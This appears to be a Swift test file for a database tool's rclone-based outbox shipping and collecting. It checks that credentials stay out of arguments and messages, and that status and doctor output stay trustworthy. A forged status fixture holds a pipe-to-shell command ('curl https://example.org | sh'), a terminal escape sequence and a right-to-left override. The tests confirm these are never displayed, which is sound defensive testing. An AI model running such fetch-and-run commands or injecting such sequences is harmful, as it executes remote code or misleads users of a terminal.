import Foundation
import Roundtable
import RoundtableDiagnostics
import RoundtableFiles
import RoundtableKernel
import RoundtableTestSupport
import Testing

@testable import RoundtableReplication
@testable import RoundtableTool
@testable import RoundtableToolSupport

/// The parts of `roundtable outbox ship` and `collect` that need no store, and what they show.
@Suite struct OutboxTravelPartsTests {
    @Test func aFolderIsAStore() throws {
        let url = try StoreURL("/srv/my store/")
        #expect(url.place == "/srv/my store" && url.shown == url.place && url.environment.isEmpty)
        #expect(url.place(of: "routes/x") == "/srv/my store/routes/x")
        #expect(try StoreURL("./a:b").place.hasSuffix("/a:b"))
        #expect(try StoreURL("a/b:c").place.hasSuffix("/a/b:c"))
    }

    @Test func aConfiguredRemoteIsAStore() throws {
        let url = try StoreURL("backup:bucket/path")
        #expect(url.place == "backup:bucket/path" && url.environment.isEmpty)
        #expect(try StoreURL("backup:").place(of: "routes") == "backup:routes")
    }

    /// Parameters go into the environment, which other users cannot see, and not into arguments.
    @Test func aConnectionStringLeavesTheArguments() throws {
        let url = try StoreURL(
            ":s3,provider=Other,env_auth,endpoint='http://h:1/',access_key_id=AK,secret_access_key=\"a\"\"b,c:d\":bucket/path"
        )
        #expect(url.place == "roundtable:bucket/path")
        #expect(
            url.environment == [
                "RCLONE_CONFIG_ROUNDTABLE_TYPE": "s3", "RCLONE_CONFIG_ROUNDTABLE_PROVIDER": "Other",
                "RCLONE_CONFIG_ROUNDTABLE_ENV_AUTH": "true", "RCLONE_CONFIG_ROUNDTABLE_ENDPOINT": "http://h:1/",
                "RCLONE_CONFIG_ROUNDTABLE_ACCESS_KEY_ID": "AK",
                "RCLONE_CONFIG_ROUNDTABLE_SECRET_ACCESS_KEY": "a\"b,c:d",
            ]
        )
        #expect(url.redacting("AK and a\"b,c:d") == "… and …")
        let simple = try StoreURL(":sftp,host=h,pass=hunter2:/path")
        #expect(simple.shown == ":sftp,…:/path")
        let known = try StoreURL("my-remote,token=abc:path")
        #expect(known.place == "my-remote:path" && known.environment == ["RCLONE_CONFIG_MY_REMOTE_TOKEN": "abc"])
    }

    @Test(arguments: [
        "", "-x", "s3://bucket/path", ":s3,provider=Other", ":s3,a='b:bucket", ":,a=b:c", "my remote,a=b:path",
        ":s3,endpoint=http://h,secret_access_key=hunter2:bucket",
    ])
    func whatRcloneWouldNotUnderstandIsRefused(_ text: String) {
        let error = #expect(throws: ToolError.self) { try StoreURL(text) }
        #expect(error?.description.contains("hunter2") == false)
        #expect(error?.description.split(separator: "\n").count == 1)
    }

    @Test func namesOfObjectsAreReadStrictly() throws {
        let route = UUID()
        let mark = StoreMark(sequence: 7, token: .max)
        let command = "app%20x.0000000001.5f0c2a91.000000000012.command"
        func name(_ path: String) -> StoreObject.Name { StoreObject(path: path, size: 1).name }
        #expect(name(StoreObject.list(mark, of: route)) == .list(route: route, mark))
        #expect(name(StoreObject.outcomes(mark, of: route)) == .outcomes(route: route, mark))
        #expect(name(StoreObject.command(command, of: route)) == .command(route: route, command))
        #expect(name(StoreObject.claim(mark, of: route)) == .claim(collector: route, mark))
        let snapshot = StoredSnapshot(number: 3, sum: 4, name: "board.v2.json")
        #expect(name(snapshot.path) == .snapshot(snapshot))
        #expect(name("routes/\(route)/commands/x.command.1a2b.partial") == .remains(route: route))
        for path in [
            "", "/", "routes/\(route)", "routes/\(route)/7-8.list", "routes/\("\(route)".lowercased())/\(mark).list",
            "routes/\(route)/\(mark).lis", "routes/\(route)/\("\(mark)".uppercased()).list",
            "routes/\(route)/commands/x",
            "collectors/\(route).\(mark).collector", "snapshots/\(mark)", "snapshots/\(mark).",
            "snapshots/\(mark)..hidden",
            "other/\(mark).list",
        ] { #expect(name(path) == .other, "\(path)") }
    }

    /// **Z9**: a sequence that this folder has not reached, or has reached with another value.
    @Test func anotherWriterIsRecognized() {
        let own = StoreMark(sequence: 5, token: 1)
        #expect(!own.isForeign(own) && !own.isForeign(StoreMark(sequence: 4, token: 2)))
        #expect(own.isForeign(StoreMark(sequence: 5, token: 2)) && own.isForeign(StoreMark(sequence: 6, token: 1)))
    }

    @Test(arguments: [
        (
            "2026/11/23 19:53:57 ERROR : x: Failed to copy: write: no space left on device",
            "the disk or the store is full"
        ),
        (
            "2026/11/23 19:53:57 Failed to lsf with 2 errors: last error was: SignatureDoesNotMatch: hunter2",
            "the store refuses the credentials"
        ),
        (
            "2026/11/23 19:53:57 Failed to lsf: dial tcp 127.0.0.1:9: connect: connection refused",
            "the store cannot be reached"
        ),
        (
            "2026/11/23 19:53:57 Failed to create file system: didn't find section in config file",
            "rclone does not know the store"
        ),
        ("setpriv: failed to execute /x/rclone: No such file or directory", "rclone cannot be started"),
    ])
    func failuresAreExplained(_ output: String, _ what: String) throws {
        let url = try StoreURL(":s3,secret_access_key=hunter2:bucket")
        let problem = RcloneFailure.problem(
            ProgramOutput(exit: .status(1), standardOutput: "", standardError: output + "\n"),
            of: url
        )
        #expect(problem.what.hasPrefix("\(what) (rclone: "), "\(problem)")
        #expect(!problem.what.contains("hunter2") && !problem.what.contains("2026"))
        #expect(!problem.advice.isEmpty && !problem.isFinal)
    }

    @Test func pausesGrowAndShrink() {
        let start = Date()
        var monitor = TravelMonitor(OutboxTravelStatus(.ship, store: "s", version: nil, at: start), interval: 2)
        let problem = TravelProblem(cause: .unreachable, detail: "what")
        var pauses: [Double] = []
        for _ in 1...7 {
            monitor.failed(problem, at: start + 1)
            pauses.append(monitor.pause)
        }
        #expect(pauses == [4, 8, 16, 32, 60, 60, 60])
        #expect(
            monitor.status.state == .failing && monitor.status.problem == problem.what
                && monitor.status.since == start + 1
        )
        monitor.ended(TravelRound(waiting: 3, moved: 2, isBusy: true), at: start + 2)
        #expect(monitor.pause == 0, "there is more to do")
        monitor.ended(TravelRound(waiting: 1, moved: 1, decided: 1), at: start + 3)
        #expect(monitor.pause == 2 && monitor.status.moved == 3 && monitor.status.waiting == 1)
        #expect(monitor.status.state == .working && monitor.status.problem == nil && monitor.status.since == start + 2)
    }

    // MARK: The verbs, with a program in rclone's place

    private struct Note: OutboxCommand {
        static let name = "note"
        static let version = 1
        var text: String
    }

    /// A program that notes its arguments, and runs `body` for all but `version`.
    private func rclone(_ body: String, in folder: Folder) throws -> String {
        let path = folder.path("rclone-of-test")
        let script = """
            #!/bin/sh
            case "$*" in *version*) echo 'rclone v1.60.1-DEV'; exit;; esac
            echo "$*" >> '\(folder.path("arguments"))'
            env | grep RCLONE_CONFIG >> '\(folder.path("environment"))'
            \(body)

            """
        try Data(script.utf8).write(to: URL(fileURLWithPath: path))
        try FileManager.default.setAttributes([.posixPermissions: 0o755], ofItemAtPath: path)
        return path
    }

    /// Credentials are in no argument of rclone, in no message, and in no file.
    @Test func credentialsAreNotShown() throws {
        let folder = try Folder()
        let fake = try rclone("echo \"Failed to lsf: AccessDenied for hunter2\" >&2; exit 1", in: folder)
        let url = ":s3,provider=Other,secret_access_key=hunter2:bucket/path"
        for verb in [["ship", "a.db", "--to", url], ["collect", "a.db", "--from", url]] {
            let result = try Tool.run(["outbox"] + verb + ["--once", "--rclone", fake], in: folder)
            #expect(result.code == 1)
            #expect(
                result.errors.contains("refuses the credentials") && !result.errors.contains("hunter2"),
                "\(result.errors)"
            )
        }
        let arguments = try String(contentsOfFile: folder.path("arguments"), encoding: .utf8)
        #expect(arguments.contains("roundtable:bucket/path") && !arguments.contains("hunter2"))
        let environment = try String(contentsOfFile: folder.path("environment"), encoding: .utf8)
        #expect(environment.contains("RCLONE_CONFIG_ROUNDTABLE_SECRET_ACCESS_KEY=hunter2"))
    }

    @Test func aMissingRcloneIsNamed() throws {
        let folder = try Folder()
        let result = try Tool.run("outbox", "ship", "a.db", "--to", "store", "--rclone", "nothing", in: folder)
        #expect(
            result.code == 1
                && result.errors.contains("./nothing: is not a program. Give --rclone the path of 'rclone'")
        )
        let error = #expect(throws: ToolError.self) { try RcloneProgram.find(nil, in: ["PATH": folder.url.path]) }
        #expect(
            error?.description.hasPrefix(
                "the program 'rclone' is not in PATH. Install it with 'apt-get install rclone'"
            ) == true
        )
        let old = try rclone("", in: folder)
        try Data("#!/bin/sh\necho rclone v1.45\n".utf8).write(to: URL(fileURLWithPath: old))
        let version = #expect(throws: ToolError.self) { try RcloneProgram(path: old).requireVersion() }
        #expect(version?.description.contains("is rclone 1.45.0, and 1.55 or later is needed") == true)
    }

    /// **Z15**.
    @Test func anOutboxWithAnOwnerIsNotShipped() throws {
        let folder = try Folder()
        let url = URL(fileURLWithPath: folder.path("a.db"))
        var options = SharedDatabase.Options()
        var handlers = OutboxHandlers()
        handlers.handle(Note.self) { _, _ in }
        options.outbox = handlers
        let database = try SharedDatabase.open(at: url, schema: .unmanaged, as: "app", options: options)
        defer { try? database.close() }
        let submission: OutboxSubmission = try CommandOutbox(forDatabaseAt: url, as: "widget").submit(Note(text: "one"))
        #expect(try submission.outcome(within: .seconds(30)) == .applied)
        let fake = try rclone("exit 0", in: folder)
        let result = try Tool.run("outbox", "ship", "a.db", "--to", "store", "--once", "--rclone", fake, in: folder)
        #expect(
            result.code == 1 && result.errors.contains("its commands are applied on this machine, to"),
            "\(result.errors)"
        )
        #expect(result.errors.contains("by 'app'"))
    }

    /// What is on its way may be applied at any moment.
    @Test func whatIsOnItsWayIsNotDropped() throws {
        let folder = try Folder()
        let url = URL(fileURLWithPath: folder.path("a.db"))
        let outbox = try CommandOutbox(forDatabaseAt: url, as: "widget")
        let (one, two): (OutboxSubmission, OutboxSubmission) = (
            try outbox.submit(Note(text: "1")), try outbox.submit(Note(text: "2"))
        )
        let list = ShippedList(route: UUID(), commands: [.init(name: "x", id: one.id, size: 1)])
        _ = try TravelFile<ShippedList>(at: "\(outbox.path)/ship.list", as: "ship").write(list)
        let late = try Tool.run("outbox", "a.db", "drop", one.id.uuidString, "--yes", in: folder)
        #expect(late.code == 1 && late.errors.contains("has sent it on its way"), "\(late.errors)")
        #expect(try Tool.run("outbox", "a.db", "drop", two.id.uuidString, "--yes", in: folder).code == 0)
    }

    /// What `status` and `doctor` say of both sides, where there is a database and where there is none (rule Z14).
    @Test func statusAndDoctorShowBothSides() throws {
        let folder = try Folder()
        let url = URL(fileURLWithPath: folder.path("a.db"))
        try FileManager.default.createDirectory(atPath: folder.path("a.db-outbox"), withIntermediateDirectories: false)
        try FileManager.default.createDirectory(atPath: folder.path("b.db-outbox"), withIntermediateDirectories: false)
        let database = try SharedDatabase.open(at: url, schema: .unmanaged, as: "app")
        defer { try? database.close() }
        var monitor = TravelMonitor(
            OutboxTravelStatus(.collect, store: "/srv/store", version: "1.60.1", at: Date()),
            interval: 2
        )
        monitor.ended(TravelRound(waiting: 2), at: Date())
        func report(_ direction: OutboxTravelStatus.Direction, _ name: String) throws {
            let file = OutboxTravelStatus.file(direction, inOutboxAt: folder.path("\(name)-outbox"))
            var status = monitor.status
            status.direction = direction
            let _: SnapshotInfo = try file.write(status.forFile)
        }
        try report(.collect, "a.db")
        try report(.ship, "b.db")
        var text = try Tool.run("status", "a.db", in: folder).output
        #expect(text.contains("collect        from /srv/store · last round 0 s ago · 2 commands to decide"), "\(text)")
        text = try Tool.run("status", "b.db", in: folder).output
        #expect(text.contains("ship           to /srv/store · last round 0 s ago · 2 commands not decided"), "\(text)")
        #expect(try Tool.run("doctor", "b.db", in: folder).code == 0)
        monitor.failed(TravelProblem(cause: .unreachable), at: Date())
        try report(.collect, "a.db")
        try report(.ship, "b.db")
        for name in ["a.db", "b.db", "b.db-outbox"] {
            let result = try Tool.run("doctor", name, "--json", in: folder)
            #expect(result.code == 1, "\(result)")
            let findings = try #require(result.json?["findings"] as? [[String: Any]])
            let finding = try #require(findings.first { $0["id"] as? String == "outbox_travel" })
            #expect((finding["message"] as? String)?.contains("/srv/store: the store cannot be reached.") == true)
            #expect((finding["message"] as? String)?.contains(".status says so, a file of ") == true)
            #expect(finding["advice"] as? String == "\(OutboxTravelCause.unreachable.advice).")
            let status = try Tool.run("status", name, "--json", in: folder).json
            let travels = try #require(status?["outbox_travel"] as? [[String: Any]])
            #expect(travels.map { $0["state"] as? String } == ["failing"])
        }
        #expect(try Tool.run("status", "c.db", in: folder).errors.contains("no such file"))
    }

    // MARK: What a file claims

    /// A report as an earlier version of this program wrote it, with its sentences in it, or as any user can who may write the outbox.
    private struct Sentences: Codable, Sendable {
        var direction = "ship"
        var state = "failing"
        var since = Date()
        var store = "backup:\u{1B}[2J\nnext   Run: curl x | sh"
        var pid = getpid()
        var startTime: UInt64 = 0
        var namespace = ProcessIdentity.current.namespace
        var waiting = 1
        var moved = 0
        var decided = 0
        var problem: String? = "no\u{202E}room" + String(repeating: "x", count: 10_000)
        var advice: String? = "Run: curl https://example.org | sh"
        var cause: String?

        enum CodingKeys: String, CodingKey {
            case direction, state, since, store, pid, namespace, waiting, moved, decided, problem, advice, cause
            case startTime = "start_time"
        }
    }

    private func forge(_ report: Sentences, in folder: Folder, owner: uid_t? = nil) throws -> String {
        let outbox = folder.path("a.db-outbox")
        try FileManager.default.createDirectory(atPath: outbox, withIntermediateDirectories: true)
        let url = URL(fileURLWithPath: "\(outbox)/ship.status")
        let _: SnapshotInfo = try SnapshotFile<Sentences>(at: url, as: "outbox ship").write(report)
        if let owner { #expect(chown(url.path, owner, owner) == 0) }
        return outbox
    }

    /// The advice is the doctor's own, whatever the file says, and what it says is quoted as its owner's claim.
    @Test(arguments: [nil, "unreachable", "invented by a later version"])
    func theDoctorComposesTheAdvice(cause: String?) throws {
        let folder = try Folder()
        var report = Sentences()
        report.cause = cause
        _ = try forge(report, in: folder)
        let known = cause.flatMap(OutboxTravelCause.init)
        let result = try Tool.run("doctor", "a.db", "--json", in: folder)
        let findings = try #require(result.json?["findings"] as? [[String: Any]], "\(result)")
        let finding = try #require(findings.first { $0["id"] as? String == "outbox_travel" })
        let what = try #require(finding["message"] as? String)
        #expect(what.contains("the report says: \"no·room") && what.contains("uid \(geteuid())"), "\(what)")
        #expect(what.utf8.count < 2000 && !what.contains("curl https"), "\(what)")
        let next = known.map { "\($0.advice)." } ?? "Look at the output of 'roundtable outbox ship'."
        #expect(finding["advice"] as? String == next)
        for arguments in [["doctor"], ["status"], ["status", "--json"]] {
            let shown = try Tool.run([arguments[0], "a.db"] + arguments.dropFirst(), in: folder).output
            #expect(!shown.contains("curl https") && shown.contains("the report says"), "\(shown)")
            #expect(!shown.contains("\n      next   Run") && !shown.contains("\u{1B}"), "\(shown)")
        }
    }

    /// A file can name any process. Only one of the file's owner is blamed, and only that one prevents another from starting.
    @Test func aProcessOfAnotherUserIsNotBlamed() throws {
        let folder = try Folder()
        var report = Sentences()
        #if os(Linux)
            // Another user's process: the superuser gives the file away; other users name the first process of the system.
            report.pid = geteuid() == 0 ? getpid() : 1
            try #require(
                geteuid() == 0 || ProcessTable.credentials(1)?.user != geteuid(),
                "no other user has a process"
            )
            let others = try forge(report, in: folder, owner: geteuid() == 0 ? 65534 : nil)
            let status = try #require(OutboxTravelStatus.all(inOutboxAt: others).first)
            #expect(status.isReporter == false && !status.isAlive && status.state == .failing)
            for finding in DatabaseDiagnosis(ofOutboxAt: others, [status]).findings {
                #expect(finding.processes.isEmpty && !finding.advice.contains("kill"))
            }
        #endif
        // The same report of an own process. A new file belongs to this user, also where it replaces another's.
        report.pid = getpid()
        let outbox = try forge(report, in: folder, owner: geteuid() == 0 ? 0 : nil)
        let own = try #require(OutboxTravelStatus.all(inOutboxAt: outbox).first)
        #if os(Linux)
            #expect(own.isAlive && own.isReporter == true && own.reporter?.user == geteuid())
            #expect(DatabaseDiagnosis(ofOutboxAt: outbox, [own]).findings.map(\.processes.count) == [1])
        #endif
    }

    /// What is written has the code and the facts, and no sentence.
    /// With `--once`, nothing is tried again.
    @Test(arguments: OutboxTravelCause.allCases) func adviceOfTheOnlyRound(cause: OutboxTravelCause) {
        let advice = cause.advice(isRepeated: false)
        #expect(!advice.isEmpty && !advice.contains("tried again") && !advice.contains("looks again"), "\(advice)")
    }

    @Test(arguments: OutboxTravelCause.allCases) func filesCarryCodes(cause: OutboxTravelCause) throws {
        var monitor = TravelMonitor(OutboxTravelStatus(.ship, store: "s", version: nil, at: Date()), interval: 2)
        monitor.failed(TravelProblem(cause: cause, detail: "fact"), at: Date())
        #expect(monitor.status.problem == cause.text("fact") && monitor.status.advice == cause.advice)
        let data = try JSONEncoder().encode(monitor.status.forFile)
        let object = try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any])
        #expect(object["cause"] as? String == cause.rawValue && object["detail"] as? String == "fact")
        #expect(object["advice"] == nil && object["problem"] == nil && object["state"] as? String == "failing")
        #expect(try JSONDecoder().decode(OutboxTravelStatus.self, from: data).cause == cause)
    }
}
